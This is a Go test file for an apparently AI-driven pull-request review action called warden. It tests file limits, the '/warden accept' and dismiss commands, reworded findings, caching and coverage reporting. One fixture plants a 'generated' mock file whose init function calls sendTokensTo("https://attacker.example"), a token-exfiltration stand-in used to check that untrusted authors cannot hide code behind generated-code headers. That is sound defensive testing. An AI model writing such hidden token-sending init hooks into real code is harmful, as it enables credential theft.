package main

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/org/warden/internal/fakegithub"
	"github.com/org/warden/internal/fakeopenai"
)

// realEvent writes a pull_request event made from GitHub's own example
// payload (@octokit/webhooks-examples, 01-opened.json) with the harness's
// pull request, commits and repository, the author's login and
// association: the shape GitHub sends, not one written for the test.
func (h *actionHarness) realEvent(action, login, association string) {
	h.t.Helper()
	raw, err := os.ReadFile(filepath.Join(payloadDir, "01-opened.json"))
	if err != nil {
		h.t.Fatal(err)
	}
	var ev map[string]any
	if err := json.Unmarshal(raw, &ev); err != nil {
		h.t.Fatal(err)
	}
	ev["action"], ev["number"] = action, testPR
	repo := ev["repository"].(map[string]any)
	repo["name"], repo["full_name"] = testRepo, testOwner+"/"+testRepo
	repo["owner"].(map[string]any)["login"] = testOwner
	pr := ev["pull_request"].(map[string]any)
	pr["number"], pr["title"], pr["body"], pr["author_association"] = testPR, h.pr.Title, h.pr.Body, association
	pr["user"].(map[string]any)["login"] = login
	for side, sha := range map[string]string{"head": h.pr.HeadSHA, "base": h.pr.BaseSHA} {
		ref := pr[side].(map[string]any)
		ref["sha"] = sha
		ref["repo"] = repo
	}
	data, err := json.Marshal(ev)
	if err != nil {
		h.t.Fatal(err)
	}
	if err := os.WriteFile(h.env["GITHUB_EVENT_PATH"], data, 0o644); err != nil {
		h.t.Fatal(err)
	}
	h.env["GITHUB_EVENT_NAME"] = "pull_request"
}

// requiredCheck is the required check "warden" on the head, as branch
// protection sees it.
func (h *actionHarness) requiredCheck() (fakegithub.CheckRun, bool) {
	h.t.Helper()
	run, passes, ok := h.gh.RequiredCheck("warden", h.pr.HeadSHA)
	if !ok {
		h.t.Fatalf("no warden check run on the head %s", h.pr.HeadSHA)
	}
	return run, passes
}

// TestGateMaxFiles: a change with more files than max_files, a healthy
// model that finds nothing, default inputs: the review is partial, the
// check run says how many files were reviewed of those in scope and why
// not the rest, and it does not pass the required check; the step outputs,
// the JSON report file and the job summary say the same. With
// limits_out_of_scope the same change is complete and passes, and the
// report says what the limits left out.
func TestGateMaxFiles(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, config      string
		outcome           string
		passes            bool
		title, summaryHas string
	}{
		{"limits in scope (default)", "[filters]\nmax_files = 1\n", "partial", false,
			"Partial: 1 of 3 files reviewed (2 files over max_files)", "| Not reviewed: over max\\_files | 2 |"},
		{"limits out of scope", "[filters]\nmax_files = 1\nlimits_out_of_scope = true\n", "complete", true,
			"Complete: no findings", "Files over the limits are out of scope (`limits_out_of_scope = true`)"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			h := newActionHarness(t, "high")
			h.model.content = `{"findings":[]}`
			h.config(tt.config)
			h.realEvent("opened", "alice", "MEMBER")
			res := h.run(context.Background())
			if res.code != exitOK {
				t.Fatalf("exit = %d, want 0 (fail-on-incomplete unset); stderr:\n%s", res.code, res.stderr)
			}
			cr, passes := h.requiredCheck()
			if cr.Title != tt.title || passes != tt.passes || !strings.Contains(cr.Summary, tt.summaryHas) {
				t.Errorf("check run %s %q (passes required checks: %v); want %q, passes %v, summary with %q:\n%s",
					cr.Conclusion, cr.Title, passes, tt.title, tt.passes, tt.summaryHas, cr.Summary)
			}
			out := h.outputs()
			wantOut := map[string]string{"outcome": tt.outcome, "files-in-scope": "3", "files-reviewed": "1"}
			if tt.passes {
				wantOut["files-in-scope"] = "1"
			}
			for k, v := range wantOut {
				if out[k] != v {
					t.Errorf("output %s = %q, want %q", k, out[k], v)
				}
			}
			var rep struct {
				Outcome  string `json:"outcome"`
				Coverage struct {
					InScope     struct{ Files int } `json:"in_scope"`
					NotReviewed []struct {
						Reason string
						Files  int
					} `json:"not_reviewed"`
					Excluded []struct {
						Reason string
						Files  int
					} `json:"excluded"`
				} `json:"coverage"`
			}
			data, err := os.ReadFile(out["report-file"])
			if err != nil || json.Unmarshal(data, &rep) != nil || rep.Outcome != tt.outcome {
				t.Fatalf("report file %s: %v; outcome %q, want %q", out["report-file"], err, rep.Outcome, tt.outcome)
			}
			gaps := rep.Coverage.NotReviewed
			if !tt.passes {
				if len(gaps) != 1 || gaps[0].Reason != "max_files" || gaps[0].Files != 2 {
					t.Errorf("report coverage.not_reviewed = %+v, want 2 files over max_files", gaps)
				}
			} else if len(gaps) != 0 || len(rep.Coverage.Excluded) == 0 || rep.Coverage.Excluded[0].Reason != "max_files" {
				t.Errorf("report coverage = %+v, want nothing unreviewed in scope and max_files among the exclusions", rep.Coverage)
			}
			if sum := h.summary(); !strings.Contains(sum, tt.summaryHas) {
				t.Errorf("job summary lacks %q", tt.summaryHas)
			}
			if !tt.passes && !strings.Contains(cr.Summary, "/warden accept") {
				t.Errorf("an incomplete review's check run does not offer the way out:\n%s", cr.Summary)
			}
		})
	}
}

// generatedChange makes the pull request's only change new code under a
// generated-code header: the convention anyone can write.
func generatedChange(h *actionHarness) {
	h.t.Helper()
	r := h.repo
	r.git("checkout", "-q", "main")
	r.git("branch", "-qD", "feature")
	r.git("checkout", "-q", "-b", "feature")
	r.write("internal/mock/client.go", "// Code generated by mockgen. DO NOT EDIT.\n\npackage mock\n\nfunc init() { sendTokensTo(\"https://attacker.example\") }\n")
	r.git("add", "-A")
	r.git("commit", "-qm", "regenerate mocks")
	h.refreshPR()
}

// TestGateUntrustedGeneratedHeader: a pull request whose only change is
// code under a "Code generated ... DO NOT EDIT." header. From a trusted
// author it is excluded by policy, and the check run says that nothing was
// reviewed and why. From an author the repository does not trust (real
// payload, author_association CONTRIBUTOR or NONE) the header does not
// exclude it: the code is sent to the model and reviewed.
func TestGateUntrustedGeneratedHeader(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		association string
		reviewed    bool
		title       string
	}{
		{"MEMBER", false, "Complete: nothing needed review (1 file excluded: 1 generated)"},
		{"CONTRIBUTOR", true, "Complete: no findings"},
		{"NONE", true, "Complete: no findings"},
	} {
		t.Run(tt.association, func(t *testing.T) {
			t.Parallel()
			h := newActionHarness(t, "high")
			h.model.content = `{"findings":[]}`
			generatedChange(h)
			h.realEvent("opened", "mallory", tt.association)
			res := h.run(context.Background())
			if res.code != exitOK {
				t.Fatalf("exit = %d; stderr:\n%s", res.code, res.stderr)
			}
			cr, _ := h.requiredCheck()
			if cr.Title != tt.title {
				t.Errorf("check run %s %q, want %q", cr.Conclusion, cr.Title, tt.title)
			}
			if got := h.model.promptsContain("sendTokensTo"); got != tt.reviewed {
				t.Errorf("the generated file's code was sent to the model: %v, want %v", got, tt.reviewed)
			}
			if tt.reviewed && !strings.Contains(cr.Summary, "Reviewed although a convention would exclude them, because the pull request's author is not trusted: 1 generated") {
				t.Errorf("the summary does not say the generated file was reviewed because of the author:\n%s", cr.Summary)
			}
		})
	}
}

// TestGateAccept: a partial review with default inputs does not pass the
// required check, and its summary offers the way out. A contributor's
// `/warden accept` (GitHub's issue_comment payload) changes nothing and
// the reply says so; a member's turns the check into an accepted state
// that passes and records who accepted which commit and why. A second
// accept finds nothing left to accept.
func TestGateAccept(t *testing.T) {
	t.Parallel()
	h := newActionHarness(t, "high")
	h.model.content = `{"findings":[]}`
	h.config("[filters]\nmax_files = 2\n")
	h.realEvent("opened", "alice", "MEMBER")
	if res := h.run(context.Background()); res.code != exitOK {
		t.Fatalf("review: exit %d; stderr:\n%s", res.code, res.stderr)
	}
	before, passes := h.requiredCheck()
	if passes || !strings.HasPrefix(before.Title, "Partial: ") || !strings.Contains(before.Summary, "`/warden accept [reason]`") {
		t.Fatalf("partial review: check %s %q passes %v; want a failing partial check offering /warden accept", before.Conclusion, before.Title, passes)
	}

	// Anyone else: nothing changes.
	h.gh.SetRole("alice", fakegithub.RoleWrite) // the member who accepts
	h.gh.SetRole("bob", fakegithub.RoleAdmin)   // the owner
	id := h.gh.AddIssueComment(testPR, fakegithub.IssueComment{Body: "/warden accept looks fine to me", User: "mallory", Association: "CONTRIBUTOR"})
	h.commentEvent(id, "/warden accept looks fine to me", "mallory", "CONTRIBUTOR")
	if res := h.run(context.Background()); res.code != exitOK {
		t.Fatalf("contributor's accept: exit %d; stderr:\n%s", res.code, res.stderr)
	}
	after, passes := h.requiredCheck()
	if passes || after.Conclusion != before.Conclusion || after.Title != before.Title || after.Summary != before.Summary {
		t.Errorf("a contributor's /warden accept changed the check: %s %q (passes %v)", after.Conclusion, after.Title, passes)
	}
	replies := h.gh.IssueComments(testPR)
	if last := replies[len(replies)-1].Body; !strings.Contains(last, "@mallory cannot run `/warden` commands") || !strings.Contains(last, "Nothing was run") {
		t.Errorf("reply to the contributor = %q, want a refusal saying nothing was run", last)
	}

	// A member accepts on purpose.
	id = h.gh.AddIssueComment(testPR, fakegithub.IssueComment{Body: "/warden accept docs only, reviewed by hand", User: "alice", Association: "MEMBER"})
	h.commentEvent(id, "/warden accept docs only, reviewed by hand", "alice", "MEMBER")
	if res := h.run(context.Background()); res.code != exitOK {
		t.Fatalf("member's accept: exit %d; stderr:\n%s", res.code, res.stderr)
	}
	accepted, passes := h.requiredCheck()
	if !passes || accepted.ID != before.ID || accepted.Conclusion != "neutral" || accepted.Title != "Accepted by @alice: "+before.Title {
		t.Errorf("accepted check: %s %q passes %v (id %d, was %d); want the same run, neutral, passing, titled who accepted", accepted.Conclusion, accepted.Title, passes, accepted.ID, before.ID)
	}
	for _, want := range []string{"**@alice accepted this incomplete review** of commit `" + h.pr.HeadSHA + "`", "“docs only, reviewed by hand”", "## warden: Partial"} {
		if !strings.Contains(accepted.Summary, want) {
			t.Errorf("accepted check's summary lacks %q:\n%s", want, accepted.Summary)
		}
	}
	if strings.Contains(accepted.Summary, "does not pass required checks") {
		t.Errorf("the accepted check still says it does not pass:\n%s", accepted.Summary)
	}
	replies = h.gh.IssueComments(testPR)
	if last := replies[len(replies)-1].Body; !strings.Contains(last, "@alice accepted the incomplete review") {
		t.Errorf("reply to the member = %q", last)
	}
	if got := h.reactions(id); strings.Join(got, ",") != "eyes,rocket" {
		t.Errorf("reactions on the accept = %v, want eyes then rocket", got)
	}

	// Nothing left to accept.
	id = h.gh.AddIssueComment(testPR, fakegithub.IssueComment{Body: "/warden accept", User: "bob", Association: "OWNER"})
	h.commentEvent(id, "/warden accept", "bob", "OWNER")
	h.run(context.Background())
	replies = h.gh.IssueComments(testPR)
	if last := replies[len(replies)-1].Body; !strings.Contains(last, "already passes") || !strings.Contains(last, "Nothing was accepted") {
		t.Errorf("second accept's reply = %q, want already passes, nothing accepted", last)
	}
	if again, _ := h.requiredCheck(); again.Summary != accepted.Summary {
		t.Errorf("a second accept rewrote the record")
	}
}

// rewording makes the harness's model word every title and description
// differently on every run (*run is the run's number), as a real model
// does, while finding the same problem on the same line.
func rewording(h *actionHarness, run *atomic.Int32) {
	h.model.script.Default = func(req fakeopenai.Request) fakeopenai.Answer {
		sub := linesRE.FindStringSubmatch(req.Prompt())
		start, _ := strconv.Atoi(sub[1])
		n := run.Load()
		words := []string{"Unchecked input", "Input is not validated", "Missing validation of the input", "Validation gap"}
		b, _ := json.Marshal(map[string]any{"findings": []map[string]any{{
			"severity": "high", "title": fmt.Sprintf("%s in %s", words[int(n)%len(words)], sub[3]),
			"description": fmt.Sprintf("Run %d: the value reaches the sink unchecked.", n),
			"start_line":  start, "end_line": start, "suggestion": "", "confidence": 0.9,
		}}})
		return fakeopenai.Answer{Content: string(b)}
	}
}

// TestGateRewordedFindings: a model that rewords every title on every run.
// A second run on the same head posts no second comment; a dismissal holds
// however the finding is worded next; a finding whose code the author
// reverts is recognised as fixed (its thread resolved) by its code, while
// the findings on unchanged code, reworded again, stay open.
func TestGateRewordedFindings(t *testing.T) {
	t.Parallel()
	h := newActionHarness(t, "high")
	var run atomic.Int32
	rewording(h, &run)
	h.realEvent("opened", "alice", "MEMBER")
	next := func(what string) {
		t.Helper()
		run.Add(1)
		if res := h.run(context.Background()); res.code > exitFindings {
			t.Fatalf("%s: exit %d; stderr:\n%s", what, res.code, res.stderr)
		}
	}
	next("first review")
	first := rootComments(h)
	if len(first) < 3 {
		t.Fatalf("%d findings posted, want one per changed hunk (3 or more)", len(first))
	}
	commentCount := len(h.gh.ReviewComments(testPR))

	h.realEvent("reopened", "alice", "MEMBER") // the same head again
	next("same head, reworded")
	if got := len(h.gh.ReviewComments(testPR)); got != commentCount {
		t.Errorf("a second run on the same head, titles reworded, posted %d more comments", got-commentCount)
	}
	if rs := h.gh.Reviews(testPR); len(rs) != 1 {
		t.Errorf("%d reviews posted, want 1 (the second run had nothing new)", len(rs))
	}

	// A member dismisses the finding on session.go's first hunk.
	h.gh.SetRole("alice", fakegithub.RoleWrite)
	var target fakegithub.ReviewComment
	for _, c := range first {
		if c.Path == "auth/session.go" {
			target = c
			break
		}
	}
	reply := h.gh.AddReviewComment(testPR, fakegithub.ReviewComment{Path: target.Path, Line: target.Line, Body: "/warden dismiss intended", User: "alice", InReplyTo: target.ID})
	h.reviewCommentEvent(reply, target.ID, "/warden dismiss intended", "alice", "MEMBER")
	next("dismiss")
	commentCount = len(h.gh.ReviewComments(testPR))
	h.realEvent("reopened", "alice", "MEMBER")
	next("after the dismissal, reworded")
	if cr := h.lastCheckRun(); !strings.Contains(cr.Summary, "**Suppressed:** 1 finding dismissed") {
		t.Errorf("the dismissal did not hold against a reworded finding:\n%.600s", cr.Summary)
	}
	if got := len(h.gh.ReviewComments(testPR)); got != commentCount {
		t.Errorf("%d comments posted after the dismissal, want none", got-commentCount)
	}

	// The author reverts store/query.go: that finding is fixed, by its
	// code; the others, reworded again, are not.
	h.commitHead(map[string]string{"store/query.go": "package store\n\n" + numbered(40, "// query")})
	h.realEvent("synchronize", "alice", "MEMBER")
	next("push that reverts store/query.go")
	for _, c := range first {
		resolved, _ := h.gh.ThreadResolved(c.ID)
		if fixed := c.Path == "store/query.go"; resolved != fixed {
			t.Errorf("thread on %s:%d resolved %v, want %v", c.Path, c.Line, resolved, fixed)
		}
	}
}

// TestGateCachedReviewSaysSo: a review whose every answer comes from the
// results cache says so in every format (text, Markdown, JSON, SARIF):
// how many items, from which model and endpoint, and no "served by its
// first route" for items that called none. A route pointed at another
// server (one that answers 401 here) does not read the old server's
// entries: that review is provider-unavailable, not complete.
func TestGateCachedReviewSaysSo(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	diff := sampleDiff(t, dir)
	model := newFakeModel(t, "high")
	model.content = `{"findings":[]}`
	env := model.env("sk-test-SECRET-0123456789")
	env["XDG_CACHE_HOME"] = t.TempDir()
	review := func(format string) result {
		return runWarden(t, dir, env, "", "review", "--diff", diff, "--format", format, "--skill", "code-review")
	}
	first := review("json")
	calls := model.calls()
	if first.code != exitOK || calls == 0 {
		t.Fatalf("first review: exit %d, %d calls; stderr:\n%s", first.code, calls, first.stderr)
	}
	planned := decodeReport(t, first.stdout).Summary.Planned
	host := strings.TrimPrefix(model.URL, "http://")
	n := itoa(planned)
	for _, tt := range []struct {
		format string
		want   []string
		not    []string
	}{
		{"text", []string{
			"(" + n + " from the results cache)",
			"Results cache: " + n + " of the " + n + " reviewed items came from the results cache, answered earlier by test-model at " + host + " (route env)",
		}, []string{"served by its first attempt's route"}},
		{"markdown", []string{
			"(" + n + " from the results cache)",
			"**" + n + " from earlier runs:** of the " + n + " reviewed items, " + n + " were answered by earlier runs (the results cache: paid for once, no model call; answered by test-model at " + host + " (route env)), 0 by the model in this run.",
		}, []string{"served by its first attempt's route"}},
		{"json", []string{`"cached": ` + n, `"cached_model": "test-model"`, `"cached_endpoint": "` + host + `"`}, nil},
		{"sarif", []string{`"cached": ` + n}, nil},
	} {
		res := review(tt.format)
		if res.code != exitOK {
			t.Fatalf("%s: exit %d; stderr:\n%s", tt.format, res.code, res.stderr)
		}
		for _, w := range tt.want {
			if !strings.Contains(res.stdout, w) {
				t.Errorf("%s report lacks %q:\n%s", tt.format, w, res.stdout)
			}
		}
		for _, w := range tt.not {
			if strings.Contains(res.stdout, w) {
				t.Errorf("%s report says %q of items that called no model:\n%s", tt.format, w, res.stdout)
			}
		}
	}
	if model.calls() != calls {
		t.Errorf("the cached reviews made %d model calls", model.calls()-calls)
	}

	// The same route name and model, another endpoint: one that refuses
	// the key.
	other := newFakeModel(t, "high")
	other.status = http.StatusUnauthorized
	env["WARDEN_BASE_URL"] = other.URL + "/v1"
	dead := review("json")
	rep := decodeReport(t, dead.stdout)
	if dead.code != exitIncomplete || rep.Outcome != "provider-unavailable" || rep.Summary.Reviewed != 0 || strings.Contains(dead.stdout, `"cached"`) {
		t.Errorf("route moved to another endpoint: exit %d, %s, %d reviewed; want exit 3, provider-unavailable, none from the old endpoint's entries",
			dead.code, rep.Outcome, rep.Summary.Reviewed)
	}
}

// TestGateDefaultMaxFiles: a change of 320 files of one-line edits with the
// default limits (max_files 300) and a healthy model that finds nothing is
// partial, not exit 0, and every format says how many changed files were
// reviewed of those in scope and why the rest were not: the text
// headline, the JSON report's coverage, SARIF's executionSuccessful and
// its notification.
func TestGateDefaultMaxFiles(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	var diff strings.Builder
	for i := range 320 {
		fmt.Fprintf(&diff, "diff --git a/pkg/f%03d.go b/pkg/f%03d.go\nindex 1111111..2222222 100644\n--- a/pkg/f%03d.go\n+++ b/pkg/f%03d.go\n@@ -1,3 +1,3 @@\n package pkg\n-var x = 1\n+var x = 2\n \n", i, i, i, i)
	}
	path := filepath.Join(dir, "big.diff")
	if err := os.WriteFile(path, []byte(diff.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	model := newFakeModel(t, "high")
	model.content = `{"findings":[]}`
	env := model.env("sk-test-SECRET-0123456789")
	env["WARDEN_RESULTS_CACHE"] = "off"
	review := func(format string) result {
		res := runWarden(t, dir, env, "", "review", "--diff", path, "--skill", "code-review", "--format", format)
		if res.code != exitIncomplete {
			t.Fatalf("%s: exit %d, want %d (partial, no finding blocks); stderr:\n%s", format, res.code, exitIncomplete, res.stderr)
		}
		return res
	}
	const want = "300 of 320 changed files reviewed (600 of 640 lines); not reviewed: 20 files over max_files"
	if text := review("text").stdout; !strings.HasPrefix(text, "warden: PARTIAL — "+want+"; 300 of 300 items reviewed") {
		t.Errorf("text headline:\n%.400s\nwant %q", text, want)
	}
	rep := review("json").stdout
	for _, w := range []string{`"outcome": "partial"`, `"in_scope": {
      "files": 320,
      "lines": 640
    }`, `"reason": "max_files",
        "files": 20,
        "lines": 40`} {
		if !strings.Contains(rep, w) {
			t.Errorf("JSON report lacks %s", w)
		}
	}
	sarif := review("sarif").stdout
	for _, w := range []string{`"executionSuccessful": false`, "Not reviewed: 20 files over max_files (40 changed lines)"} {
		if !strings.Contains(sarif, w) {
			t.Errorf("SARIF lacks %s", w)
		}
	}
}
